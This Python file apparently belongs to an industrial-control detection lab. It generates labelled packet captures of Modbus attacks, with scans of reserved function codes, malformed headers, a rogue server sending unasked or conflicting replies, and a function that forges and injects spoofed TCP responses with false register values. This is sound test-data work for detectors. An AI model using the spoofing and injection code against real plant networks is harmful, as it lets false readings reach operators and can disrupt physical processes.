"""Proof captures of Modbus traffic no stack sends: reserved functions, wrong headers, answers nobody asked for."""

from __future__ import annotations

import asyncio
import socket
import struct
import time

from compose.plant import frames
from compose.plant import modbus_master as master
from compose.plant.addresses import MODBUS_PORT, ip, mac
from compose.plant.catalogue import capture
from compose.plant.cell import modbus_cell
from compose.plant.frames import ACK, PSH
from compose.plant.lab import Lab
from compose.plant.modbus_device import Controller
from compose.plant.proofs_modbus import NORMAL, WARM_UP

RESERVED = (0, 9, 10, 18, 19, 65, 66, 72, 100, 105, 110, 0x81, 0x90)
_READ_INPUTS = b"\x04\x00\x00\x00\x0a"


@capture(
    "modbus/reserved-functions.pcap",
    "A stranger tries function codes that are zero, reserved, for users, or exceptions; the server refuses them.",
    "plc1 hmi att",
    rules="MB06 MB07",
    learn=NORMAL,
    check={"ip.src==10.9.1.66 && modbus.func_code==0": 1, "ip.src==10.9.1.66 && modbus": 10},
)
def reserved_functions(lab: Lab) -> None:
    """Thirteen function codes."""
    with modbus_cell(lab):
        time.sleep(WARM_UP)
        with lab.step("function code scan", "att", "plc1", ["T0855", "T0888"], ["MB06", "MB07"]):
            lab["att"].run(scan_functions("plc1", RESERVED))
        time.sleep(WARM_UP)


async def scan_functions(server: str, codes: tuple[int, ...]) -> None:
    """Send each function code with four zero bytes, each over a connection of its own (servers may hang up)."""
    for code in codes:
        async with master.BareMaster(server) as bare:
            await bare.request(bytes([code]) + b"\0\0\0\1", timeout=0.2)


@capture(
    "modbus/header-anomalies.pcap",
    "MBAP headers that lie: protocol 1, length too long and too short, frame over 260 bytes, one number used twice.",
    "plc1 hmi att",
    rules="MB15",
    learn=NORMAL,
    check={"tcp.port==502 && ip.src==10.9.1.66 && tcp.len>0": 5},
)
def header_anomalies(lab: Lab) -> None:
    """Five kinds of wrong header, each on its own connection."""
    twice = struct.pack(">HHHB", 77, 0, 6, 1)
    frames = {
        "protocol identifier 1": struct.pack(">HHHB", 1, 1, 6, 1) + _READ_INPUTS,
        "length 20 of 6": struct.pack(">HHHB", 2, 0, 20, 1) + _READ_INPUTS,
        "length 3 of 6": struct.pack(">HHHB", 3, 0, 3, 1) + _READ_INPUTS,
        "frame of 300 bytes": struct.pack(">HHHB", 4, 0, 294, 1) + b"\x10\x00\x00\x00\x8f\x1e" + b"\x11" * 287,
        "number 77 used twice": twice + _READ_INPUTS + twice + b"\x03\x00\x64\x00\x02",
    }
    with modbus_cell(lab):
        time.sleep(WARM_UP)
        for name, frame in frames.items():
            with lab.step(name, "att", "plc1", ["T0814"], ["MB15"]):
                lab["att"].run(_send_alone("plc1", frame))
        time.sleep(WARM_UP)


async def _send_alone(server: str, frame: bytes) -> None:
    async with master.BareMaster(server) as bare:
        await bare.send(frame, 0.5)


class OddServer:
    """A Modbus server that answers FC 4 wrongly. answers: for each request, data offset of every answer it sends."""

    def __init__(self, host: str, offsets: tuple[tuple[int, ...], ...], unasked: bool = False) -> None:
        self._host, self._offsets, self._unasked = host, offsets, unasked
        self._server: asyncio.Server | None = None
        self._count = 0

    async def serve(self) -> None:
        """Listen on port 502."""
        self._server = await asyncio.start_server(self._answer, ip(self._host), MODBUS_PORT)

    async def stop(self) -> None:
        """Stop listening."""
        assert self._server is not None
        self._server.close()

    async def _answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while True:
                number, _, length, unit = struct.unpack(">HHHB", await reader.readexactly(7))
                body = await reader.readexactly(length - 1)
                count = struct.unpack(">H", body[3:5])[0]
                for offset in self._offsets[self._count % len(self._offsets)]:
                    words = struct.pack(f">{count}H", *(1000 + offset + item for item in range(count)))
                    pdu = bytes([body[0], 2 * count]) + words
                    writer.write(struct.pack(">HHHB", number, 0, len(pdu) + 1, unit) + pdu)
                    await writer.drain()
                    await asyncio.sleep(0.05)
                if self._unasked and self._count % 3 == 2:
                    writer.write(struct.pack(">HHHB", number + 5000, 0, 5, unit) + b"\x04\x02\x00\x2a")
                    await writer.drain()
                self._count += 1
        except (asyncio.IncompleteReadError, ConnectionError):
            writer.close()


def _ask_odd(lab: Lab, server: OddServer, name: str, techniques: list[str], rules: list[str]) -> None:
    async def ask() -> None:
        async with master.BareMaster("plc2") as bare:
            for _ in range(9):
                await bare.request(b"\x04\x00\x00\x00\x07", timeout=0.3)
                await asyncio.sleep(0.3)

    with modbus_cell(lab, devices=("plc1",)):
        lab["plc2"].run(server.serve())
        time.sleep(1)
        with lab.step(name, "plc2", "hmi", techniques, rules):
            lab["hmi"].run(ask())
        lab["plc2"].run(server.stop())
        time.sleep(1)


@capture(
    "modbus/unasked-answer.pcap",
    "A controller sends answers to requests that nobody made, and one answer twice.",
    "plc1 plc2 hmi",
    rules="MB15",
    learn=NORMAL,
    check={"ip.src==10.9.1.12 && modbus": 9},
)
def unasked_answer(lab: Lab) -> None:
    """Every third request brings an extra answer, every second request its answer twice."""
    server = OddServer("plc2", ((0,), (0, 0)), unasked=True)
    _ask_odd(lab, server, "answer without request, answer sent twice", ["T0830", "T0856"], ["MB15"])


@capture(
    "modbus/two-different-answers.pcap",
    "Two different answers to one request on one connection: one of them is a lie.",
    "plc1 plc2 hmi",
    rules="MB16",
    learn=NORMAL,
    check={"ip.src==10.9.1.12 && modbus": 12},
)
def two_different_answers(lab: Lab) -> None:
    """Every third request gets a second answer with other values."""
    server = OddServer("plc2", ((0,), (0,), (0, 700)))
    _ask_odd(lab, server, "second, different answer", ["T0856", "T0832"], ["MB16"])


def forged_answer(request: bytes, sender: str = "plc1") -> bytes | None:
    """Return a frame that answers a captured read of input registers with false values, None for other frames.

    sender: host whose MAC it carries.
    """
    if request[12:14] != b"\x08\x00" or request[23] != socket.IPPROTO_TCP:
        return None
    start = 14 + 4 * (request[14] & 0x0F)
    source_port, port, sequence, acknowledgement, offset = struct.unpack(">HHIIB", request[start : start + 13])
    payload = request[start + 4 * (offset >> 4) :]
    if port != MODBUS_PORT or payload[7:8] != b"\x04":
        return None
    count = struct.unpack(">H", payload[10:12])[0]
    pdu = bytes([4, 2 * count]) + struct.pack(f">{count}H", *[1234] * count)
    answer = payload[:4] + struct.pack(">H", len(pdu) + 1) + payload[6:7] + pdu
    receiver = (ip("hmi"), source_port), PSH | ACK, acknowledgement, sequence + len(payload)
    segment = frames.tcp((ip("plc1"), MODBUS_PORT), *receiver, answer)
    return frames.ethernet(mac(sender), mac("hmi"), frames.ETHERTYPE_IPV4, segment)


@capture(
    "modbus/answer-injected.pcap",
    "An attacker who sees the traffic answers before the slow controller: right numbers, false values.",
    "plc1 hmi att",
    rules="MB16",
    learn=NORMAL,
    check={"tcp.analysis.retransmission || tcp.analysis.spurious_retransmission || tcp.analysis.out_of_order": 3},
)
def answer_injected(lab: Lab) -> None:
    """The attacker's tap is the sensor's mirror port; every second read is answered falsely, four times."""

    def inject(tap: socket.socket) -> None:
        done, end = 0, time.monotonic() + 10
        with frames.packet_socket() as out:
            while done < 8 and time.monotonic() < end:
                forged = forged_answer(tap.recv(2048))
                if forged is not None:
                    done += 1
                    if done % 2:
                        out.send(forged)

    with modbus_cell(lab, (), devices=()) as cell:
        cell.start_device("plc1", Controller("plc1", (ip("plc1"), MODBUS_PORT), delay=0.12))
        cell.poll("hmi", "plc1")
        time.sleep(WARM_UP)
        tap = lab["sensor"].call(frames.packet_socket, "mon0", frames.EVERYTHING)
        tap.settimeout(3)
        with lab.step("forged answer injected", "att", "hmi", ["T0856", "T0832", "T0830"], ["MB16"]):
            lab["att"].call(inject, tap)
        tap.close()
        time.sleep(1)
